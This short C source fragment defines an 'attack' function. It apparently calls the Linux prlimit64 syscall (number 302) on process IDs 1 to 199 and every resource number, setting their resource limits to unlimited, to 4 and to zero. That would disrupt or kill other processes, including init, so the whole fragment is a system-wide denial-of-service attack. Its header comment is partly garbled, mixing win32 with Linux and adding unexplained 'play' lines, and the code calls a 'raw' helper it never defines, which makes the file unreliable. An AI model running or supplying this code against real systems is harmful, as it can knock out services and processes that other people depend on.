/*
 * win32-limits-by-linux.c - changes the limits of everybody by a system call of Linux
 *
 * play: main 01 server
 * play: first 02 client
 */
static void
attack(void)
{
    static const uint64_t limits[][2] = {{~0ULL, ~0ULL}, {4, 4}, {0, 0}};

    for (intptr_t pid = 1; pid < 200; pid++)
        for (intptr_t resource = 0; resource < 16; resource++)
            for (int i = 0; i < 3; i++)
                raw(302, pid, resource, (intptr_t)limits[i], 0);
}
